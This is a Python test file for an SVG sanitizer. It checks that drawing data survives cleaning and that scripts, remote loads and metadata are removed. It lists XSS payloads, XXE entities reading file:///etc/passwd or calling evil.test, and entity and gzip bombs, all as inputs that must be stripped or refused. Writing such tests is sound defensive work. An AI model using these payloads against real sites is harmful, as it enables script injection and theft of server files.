"""SVG cleaning: what draws stays, what runs or loads goes, and a second pass changes nothing."""

import base64
import gzip
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from sgd_resources.cleaning.web.svg import clean_svg
from sgd_resources.errors import RejectedEvidence
from sgd_resources.ports.examination import Limits

LIMITS = Limits()
HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">'


def clean(inner: str, head: str = HEAD) -> str:
    return clean_svg(f"{head}{inner}</svg>".encode(), "image/svg+xml", LIMITS).data.decode()


def refusal(data: bytes) -> str:
    with pytest.raises(RejectedEvidence) as caught:
        clean_svg(data, "image/svg+xml", LIMITS)
    return caught.value.reason


def png(**options: object) -> str:
    out = io.BytesIO()
    Image.new("RGB", (3, 2), (0, 134, 191)).save(out, "PNG", **options)
    return base64.b64encode(out.getvalue()).decode()


def test_brand_facts_survive() -> None:
    inner = (
        "<title>Acme</title><style>.a{fill:#0086BF;font-family:'Acme Sans'} :root{--brand:#f60}</style>"
        '<defs><linearGradient id="g"><stop offset="0" stop-color="#123456"/></linearGradient></defs>'
        '<path class="a" d="M0 0L9 9" style="stroke:url(#g);mix-blend-mode:multiply"/>'
        '<text fill="url(#g)">Acme &amp; Co</text>'
    )
    cleaned = clean(inner)
    for fact in (
        "#0086BF",
        "Acme Sans",
        "--brand:#f60",
        "#123456",
        "url(#g)",
        'class="a"',
        "Acme &amp; Co",
        "M0 0L9 9",
        "multiply",
    ):
        assert fact in cleaned


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        '<script xlink:href="//evil.test/x.js"/>',
        '<g onclick="alert(1)" ONLOAD="alert(1)"/>',
        '<a href="javascript:alert(1)"><text>x</text></a>',
        '<a xlink:href=" java&#10;script:alert(1)"><text>x</text></a>',
        '<use href="https://evil.test/a.svg#b"/>',
        '<use href="data:image/svg+xml;base64,PHN2Zy8+#x"/>',
        '<image href="file:///etc/passwd"/>',
        '<image xlink:href="//evil.test/a.png"/>',
        '<image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IjEiLz4="/>',
        '<set attributeName="href" to="javascript:alert(1)"/>',
        '<animate attributeName="href" values="javascript:alert(1)"/>',
        '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="//evil.test"/></body></foreignObject>',
        "<style>@import '//evil.test/x.css';</style>",
        "<style>.a{fill:u\\72l(//evil.test/x)}</style>",
        "<style>.a{background:image-set('//evil.test/x' 1x)}</style>",
        "<style>.a{width:expression(alert(1))}</style>",
        "<style>@font-face{font-family:A;src:url(//evil.test/a.woff)}</style>",
        '<rect style="fill:url(&quot;//evil.test/x#y&quot;)"/>',
        '<rect fill="url(//evil.test/x#y)"/>',
        '<rect filter="U\\52L(//evil.test/x)"/>',
        '<filter id="f"><feImage href="//evil.test/x.png"/></filter>',
        '<handler type="application/ecmascript">alert(1)</handler>',
        '<g xml:base="https://evil.test/"/>',
        '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>',
        '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
        '<?xml-stylesheet href="//evil.test/x.css"?>',
    ],
)  # fmt: skip
def test_what_runs_or_loads_is_gone(hostile: str) -> None:
    cleaned = clean(f"<g>{hostile}</g>").lower()
    for mark in (
        "script",
        "evil.test",
        "alert",
        "etc/passwd",
        "onload",
        "onclick",
        "data:",
        "@import",
        "foreignobject",
        "xml:base",
    ):
        assert mark not in cleaned


def test_metadata_is_gone() -> None:
    inner = (
        "<!-- c4n4ry --><metadata>c4n4ry</metadata>"
        '<g data-author="c4n4ry" xmlns:i="http://ns.adobe.com/x" i:knockout="c4n4ry"/>'
    )
    assert "c4n4ry" not in clean(inner)


def test_a_picture_inside_is_re_encoded() -> None:
    from PIL.PngImagePlugin import PngInfo

    told = PngInfo()
    told.add_text("Author", "c4n4ry")
    cleaned = clean(f'<image href="data:image/png;base64,{png(pnginfo=told)}"/>')
    assert "data:image/png;base64," in cleaned
    assert b"c4n4ry" not in base64.b64decode(cleaned.split("base64,")[1].split('"')[0])


def test_namespace_entities_of_drawing_programs_are_written_out() -> None:
    declared = b'<!DOCTYPE svg [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>'
    data = declared + b'<svg xmlns="&ns_svg;"><rect fill="#0086bf"/></svg>'
    assert b"#0086bf" in clean_svg(data, "image/svg+xml", LIMITS).data


def test_style_entities_of_drawing_programs_are_written_out() -> None:
    declared = b'<!DOCTYPE svg [ <!ENTITY st0 "fill:#E4572E;"> <!ENTITY st1 "fill:none;stroke:#17BEBB;"> ]>'
    data = declared + HEAD.encode() + b'<rect style="&st0;" width="9" height="9"/><path style="&st1;" d="M0 0"/></svg>'
    cleaned = clean_svg(data, "image/svg+xml", LIMITS).data
    assert b"#E4572E" in cleaned
    assert b"stroke:#17BEBB" in cleaned
    assert b"ENTITY" not in cleaned


def test_named_characters_of_html_are_known() -> None:
    assert "Acme\u00a0\u00a9 &amp; Co" in clean("<title>Acme&nbsp;&copy; &amp; Co</title>")


def test_prefixes_that_nobody_declared_do_not_lose_the_drawing() -> None:
    head = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">'
    cleaned = clean('<g inkscape:label="x" id="a" fill="#0086BF"/><use xlink:href="#a"/><sodipodi:namedview/>', head)
    assert "#0086BF" in cleaned
    assert 'xlink:href="#a"' in cleaned
    assert "inkscape" not in cleaned


def test_a_packed_drawing_is_unpacked() -> None:
    plain = f'{HEAD}<rect fill="#0086BF"/></svg>'.encode()
    assert b"#0086BF" in clean_svg(gzip.compress(plain), "image/svg+xml", LIMITS).data
    assert refusal(gzip.compress(plain)[:-12]) == "malformed"
    assert refusal(gzip.compress(b"\0" * 60_000_000)) == "bomb"


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (
            b'<!DOCTYPE svg [<!ENTITY a "fill:'
            + b"a" * 90
            + b'">]><svg xmlns="http://www.w3.org/2000/svg">'
            + b"&a;" * 20_000
            + b"</svg>",
            "entities",
        ),
        (b'<!DOCTYPE svg [<!ENTITY a "fill:red"><!ENTITY b "&a;&a;">]><svg style="&b;"/>', "entities"),
        (b'<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>', "entities"),
        (b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>', "entities"),
        (b'<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.test/x"> %p;]><svg/>', "entities"),
        (b'<?xml version="1.0" encoding="UTF-7"?><svg xmlns="http://www.w3.org/2000/svg"/>', "encoding"),
        (b"<svg><rect></svg>", "malformed"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" width="99999" height="9"/>', "bomb"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'>" + b"<g>" * 300 + b"</g>" * 300 + b"</svg>", "bomb"),
    ],
)
def test_bad_markup_is_refused_with_its_reason(data: bytes, reason: str) -> None:
    assert refusal(data) == reason


def test_nested_use_is_counted_before_anyone_draws_it() -> None:
    levels = "".join(f'<g id="l{i}">' + f'<use href="#l{i - 1}"/>' * 10 + "</g>" for i in range(1, 9))
    assert refusal(f'{HEAD}<rect id="l0"/>{levels}<use href="#l8"/></svg>'.encode()) == "bomb"


def test_a_use_of_itself_is_malformed() -> None:
    assert refusal(f'{HEAD}<g id="a"><use href="#a"/></g></svg>'.encode()) == "malformed"


names = st.sampled_from(
    ["g", "rect", "path", "style", "text", "image", "use", "script", "a", "set", "foreignObject", "title"]
)
values = st.one_of(
    st.text(alphabet="ab#:;(){}/*\\'\"<>&-0. url@import", max_size=40),
    st.sampled_from(
        ["url(#a)", "url(//x)", "#0086bf", "javascript:x", "fill:red;x:url(y)", "@import 'x';a{b:c}", "</style>"]
    ),
)
attributes = st.dictionaries(
    st.sampled_from(["fill", "style", "href", "id", "class", "onload", "d", "filter"]), values, max_size=4
)


@st.composite
def elements(draw: st.DrawFn, depth: int = 0) -> str:
    from xml.sax.saxutils import escape, quoteattr

    name = draw(names)
    written = "".join(f" {key}={quoteattr(value)}" for key, value in draw(attributes).items())
    inner = escape(draw(values))
    if depth < 3:
        inner += "".join(draw(st.lists(elements(depth=depth + 1), max_size=3)))
    return f"<{name}{written}>{inner}</{name}>"


@pytest.mark.slow
@given(st.lists(elements(), max_size=4))
@settings(max_examples=120, deadline=None)
def test_cleaning_twice_is_cleaning_once(parts: list[str]) -> None:
    try:
        once = clean_svg(f"{HEAD}{''.join(parts)}</svg>".encode(), "image/svg+xml", LIMITS).data
    except RejectedEvidence:
        return
    assert clean_svg(once, "image/svg+xml", LIMITS).data == once
